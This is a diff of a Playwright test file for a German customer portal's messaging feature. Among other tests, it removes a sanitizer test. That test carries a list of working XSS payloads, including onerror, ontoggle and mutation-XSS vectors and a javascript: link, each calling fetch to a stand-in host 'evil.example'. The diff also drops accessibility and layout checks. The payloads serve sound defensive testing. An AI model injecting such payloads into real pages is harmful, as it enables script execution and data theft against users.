@@ -1,19 +1,8 @@
 import { expect, type Page } from '@playwright/test';
-import { expectAccessible } from './accessible.ts';
-import { provider, signIn, signInAnew, test } from './portal.ts';
+import { provider, signInAnew, test } from './portal.ts';
 
 const write = (page: Page, subject: string, message: string, customerId = 1) =>
   page.request.post(`${provider}/demo/message`, { data: { customerId, subject, message } });
-const fire = 'window.fired = true; fetch("https://evil.example/stolen").catch(() => {})';
-const hostile = [
-  `<img src="data:image/png;base64,xx" onerror='${fire}'>`,
-  `<svg><animate onbegin='${fire}' attributeName="x" dur="1s"></animate></svg>`,
-  `<details open ontoggle='${fire}'><summary>x</summary>y</details>`,
-  `<iframe srcdoc="<script>parent.fired = true</script>"></iframe>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror='${fire}'></style></mglyph></table></mtext></math>`,
-  `<a href="javascript:window.fired = true" id="trap">Klick</a>`,
-  `<p style="position:fixed;inset:0">Decke</p>`,
-].join('');
 
 test('Q-15 A-11 A-12 Q-01 Q-03 Q-04 Q-05 Q-06 Q-07 Q-09 Q-10 Q-11 Q-12 a customer reads, answers and deletes messages', { tag: '@long' }, async ({ page }) => {
   await signInAnew(page, 'customer');
@@ -49,7 +38,6 @@ test('Q-15 A-11 A-12 Q-01 Q-03 Q-04 Q-05 Q-06 Q-07 Q-09 Q-10 Q-11 Q-12 a custome
   await expect(page.getByText('Ihre Nachricht wurde erfolgreich versendet.')).toBeVisible();
   await expect(dialog.getByRole('listitem').filter({ hasText: 'Wir kümmern uns darum.' })).toBeVisible();
   await expect(dialog.getByLabel('Ihre Antwort')).toHaveValue('');
-  await expectAccessible(page, { within: '[role="dialog"]' });
   await page.keyboard.press('Escape');
   await expect(page.getByRole('row').filter({ hasText: 'Erhöhte Aktivität' }).getByText('bearbeitet')).toBeVisible();
 
@@ -63,29 +51,6 @@ test('Q-15 A-11 A-12 Q-01 Q-03 Q-04 Q-05 Q-06 Q-07 Q-09 Q-10 Q-11 Q-12 a custome
   await expect(page).toHaveURL(/sort=SUBJECT/);
   // While the next rows load, the old ones remain dimmed.
   await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
-  await expectAccessible(page);
-});
-
-test('Q-15 the question of unread messages waits until the page beneath it stands', { tag: '@long' }, async ({ page }) => {
-  const shown = Promise.withResolvers<void>();
-  await page.route('**/assets/DashboardScreen-*.js', async (route) => {
-    await shown.promise;
-    await route.continue();
-  });
-  const asked: string[] = [];
-  page.on('request', (request) => void ((request.postData() ?? '').includes('UnreadNotificationCount') && asked.push(request.url())));
-  await signInAnew(page, 'keyuser');
-  await expect(page.getByRole('navigation', { name: 'Menü' })).toBeVisible();
-  // A page counts as settled after half a second.
-  await page.waitForTimeout(1_000);
-  expect(asked).toEqual([]);
-  const told = page.getByRole('dialog', { name: 'Ungelesene Nachrichten' });
-  await expect(told).toHaveCount(0);
-  shown.resolve();
-  await expect(told).toBeVisible();
-  await expect(page.locator('h1')).toHaveText('Dashboard');
-  await told.getByRole('button', { name: 'Später' }).click();
-  await expect(told).toHaveCount(0);
 });
 
 test('A-12 Q-08 Q-13 Q-16 a new message reaches an open page by itself; a key user’s Postbox can be empty', async ({ page }) => {
@@ -106,49 +71,5 @@ test('A-12 Q-08 Q-13 Q-16 a new message reaches an open page by itself; a key us
   });
   await page.reload();
   await expect(page.getByText('Es wurden alle Benachrichtigungen gelesen und bearbeitet.')).toBeVisible();
-  await page.setViewportSize({ width: 390, height: 844 });
-  await expect.poll(() => page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
   await page.unrouteAll({ behavior: 'ignoreErrors' });
-});
-
-test('Q-05 hostile HTML of a message does nothing, neither through the gateway nor past it; without cleaning it fires', { tag: '@long' }, async ({
-  browser,
-  page: quietPage,
-  baseURL,
-}) => {
-  await write(quietPage, 'Böse Nachricht', `<p>Anfang</p>${hostile}<p>Ende</p>`);
-  // Disables the page's own policy, so that only the sanitizer protects it.
-  const context = await browser.newContext({ locale: 'de-AT', bypassCSP: true, baseURL: baseURL! });
-  const page = await context.newPage();
-  const stolen: string[] = [];
-  page.on('request', (request) => void (request.url().includes('evil.example') && stolen.push(request.url())));
-  const fired = () => page.evaluate(() => (window as { fired?: boolean }).fired === true);
-  const open = async () => {
-    await page.getByRole('button', { name: '„Böse Nachricht“ öffnen' }).click();
-    const message = page.getByRole('dialog').getByRole('group', { name: 'Nachricht' });
-    await expect(message.getByText('Ende')).toBeVisible();
-    for (const link of await message.getByText('Klick').all()) await link.click({ trial: false });
-    await expect(message.locator('img, svg, iframe, math, [style], [onclick], [ontoggle], a[href^="javascript"]')).toHaveCount(0);
-    return message;
-  };
-  await signIn(page, 'customer');
-  await page.goto('/benachrichtigungen');
-  await open();
-  expect([await fired(), stolen]).toEqual([false, []]);
-
-  await page.route('**/graphql', async (route) => {
-    const answer = await route.fetch();
-    const body = (await answer.json()) as { data?: { notifications?: { rows: { subject: string; message: string }[] } } };
-    for (const row of body.data?.notifications?.rows ?? []) if (row.subject === 'Böse Nachricht') row.message = `<p>Anfang</p>${hostile}<p>Ende</p>`;
-    await route.fulfill({ response: answer, json: body });
-  });
-  await page.goto('/benachrichtigungen');
-  const message = await open();
-  expect([await fired(), stolen]).toEqual([false, []]);
-  await message.evaluate((element, html) => {
-    element.innerHTML = html;
-  }, hostile);
-  await expect.poll(fired).toBe(true);
-  await page.unrouteAll({ behavior: 'ignoreErrors' });
-  await context.close();
 });
